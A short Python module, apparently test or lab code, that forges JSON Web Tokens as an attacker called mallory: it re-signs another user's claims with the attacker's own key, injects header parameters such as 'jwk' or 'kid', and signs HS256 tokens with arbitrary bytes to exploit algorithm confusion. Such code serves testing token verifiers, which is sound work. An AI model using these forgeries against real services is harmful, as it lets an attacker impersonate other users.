"""Tokens that an attacker makes. Only send them to servers that are yours.

The attacker is mallory: she has a token of her own, a key pair of her own, and what everyone can
download.
"""

from __future__ import annotations

import json

import jwt

from client_widget.protocol.jwt_by_hand import sign
from client_widget.protocol.tokens import read_claims

from .issuer import SigningKey


def forge(token: str, username: str, key: SigningKey, **header: object) -> str:
    """A token made out to another user, and signed with the attacker's own key.

    Args:
        token (str): the attacker's own token, for its claims.
        username (str): the victim.
        key (SigningKey): the attacker's.
        header: further header parameters, such as `jwk`, or another `kid`.
    """
    return jwt.encode(
        _claims(token, username), key.private, key.algorithm, headers={"kid": key.kid, **header}
    )


def forge_hmac(token: str, username: str, secret: bytes, **header: object) -> str:
    """A token made out to another user, and signed with HS256 and any bytes.

    Args:
        token (str): the attacker's own token, for its claims.
        username (str): the victim.
        secret (bytes): what the verifier is going to take for a secret.
        header: further header parameters, such as `kid`.
    """
    head = json.dumps({"typ": "JWT", **header, "alg": "HS256"})
    return sign(head, json.dumps(_claims(token, username)), secret)


def _claims(token: str, username: str) -> dict[str, object]:
    claims = read_claims(token)
    return {**claims, "sub" if "sub" in claims else "username": username}
